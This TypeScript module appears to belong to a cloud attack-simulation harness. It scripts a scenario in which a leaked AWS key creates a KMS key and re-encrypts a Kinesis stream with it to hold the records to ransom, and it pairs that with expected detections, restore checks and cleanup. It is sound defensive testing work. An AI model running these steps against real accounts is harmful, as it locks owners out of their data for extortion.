import { DescribeStreamSummaryCommand, StartStreamEncryptionCommand } from "@aws-sdk/client-kinesis";
import { CreateKeyCommand, ScheduleKeyDeletionCommand } from "@aws-sdk/client-kms";
import { attack } from "./attack.ts";
import { encryptedAgain, keyAndEncryption, leakedKeyInactive } from "./checks.ts";
import {
  encryptAsDeclared,
  isEncryptedAsDeclared,
  kinesisOf,
  kmsOf,
  type LeakedKey,
  leakKeyOf,
  removeUser,
} from "./scene.ts";

interface Prepared extends LeakedKey {
  readonly keyId: string;
}

export const swapEncryptionKey = attack<Prepared>({
  id: "swap-encryption-key",
  title: "A stream is encrypted with the attacker's own key",
  story:
    "With a leaked key the attacker makes a KMS key, encrypts the stream with it and can then withdraw it: producers and consumers are locked out, and the records are held to ransom. Encryption is never off, so a check for that sees nothing.",
  attack: ["T1078.004", "T1486"],
  prepare: async (scene) => {
    const leaked = await leakKeyOf(scene, "deploy-orders-blue");
    const { KeyMetadata: key } = await kmsOf(scene, leaked.credentials).send(
      new CreateKeyCommand({ Description: "rotation" }),
    );
    return { ...leaked, keyId: key?.KeyId ?? "" };
  },
  strike: async (scene, { credentials, keyId }) => {
    await kinesisOf(scene, credentials).send(
      new StartStreamEncryptionCommand({ StreamARN: scene.stream.arn, EncryptionType: "KMS", KeyId: keyId }),
    );
  },
  expected: {
    detections: ["stream-encrypted-with-other-key"],
    outcomes: keyAndEncryption,
  },
  again: async (scene, { credentials }) => {
    await kinesisOf(scene, credentials).send(new DescribeStreamSummaryCommand({ StreamARN: scene.stream.arn }));
  },
  restored: async (scene) => (await isEncryptedAsDeclared(scene)) === true,
  checks: [encryptedAgain, leakedKeyInactive],
  mend: encryptAsDeclared,
  cleanUp: async (scene, prepared) => {
    await kmsOf(scene).send(new ScheduleKeyDeletionCommand({ KeyId: prepared.keyId, PendingWindowInDays: 7 }));
    await removeUser(scene, prepared);
  },
});
